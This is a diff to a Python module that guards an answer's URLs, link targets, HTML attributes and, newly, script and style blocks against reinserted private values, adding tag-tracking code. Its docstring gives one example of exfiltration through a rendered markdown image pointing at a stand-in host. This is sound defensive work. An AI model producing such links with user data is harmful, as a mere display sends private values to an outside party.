@@ -1,4 +1,5 @@
-"""The places of an answer where nothing is ever put back: URLs, link targets, HTML attributes.
+"""The places of an answer where nothing is ever put back: URLs, link targets, HTML attributes,
+scripts and style sheets.
 
 A restored value there could be carried off by the mere display or a click
 (`![x](https://evil.example/?q=<value>)`). Judged from the text before a position, so a stream
@@ -8,6 +9,7 @@ gives the same result as the whole.
 from __future__ import annotations
 
 import re
+from dataclasses import dataclass
 
 _SCHEME = re.compile(
     r"(?:[a-z][a-z0-9+.-]*://|www\.|\b(?:data|mailto|javascript|tel):)", re.IGNORECASE
@@ -15,9 +17,26 @@ _SCHEME = re.compile(
 _TARGET = re.compile(r"\]\(\s*<?(?P<inside>[^()\n]*(?:\([^()\n]*\)[^()\n]*)*)\Z")
 _DEFINITION = re.compile(r" {0,3}\[[^\]\n]+\]:[ \t]*<?(?P<inside>\S+)\Z")
 _ATTRIBUTE = re.compile(r"<[a-zA-Z][\w:-]*\s[^<>]*=\s*(?P<inside>\"[^\"]*|'[^']*|[^\s\"'<>]*)\Z")
+_CODE = re.compile(r"<(/?)(?:script|style)\b", re.IGNORECASE)
+_LONGEST_TAG = 8
 _LOOK_BACK = 2048
 _BREAKS = frozenset('<>"`')
 _CLOSERS = frozenset(")>\"' \t\n")
+
+
+@dataclass(slots=True)
+class RunningCode:
+    """Whether a place stands in a `<script>` or `<style>`; asked from left to right."""
+
+    _read: int = 0
+    _inside: bool = False
+
+    def holds(self, text: str, at: int) -> bool:
+        """Whether an element that holds code is open at `at`."""
+        for match in _CODE.finditer(text, max(0, self._read - _LONGEST_TAG), at):
+            self._inside = not match[1]
+        self._read = at
+        return self._inside
 
 
 def protected(text: str, start: int, end: int, *, url: bool) -> bool:
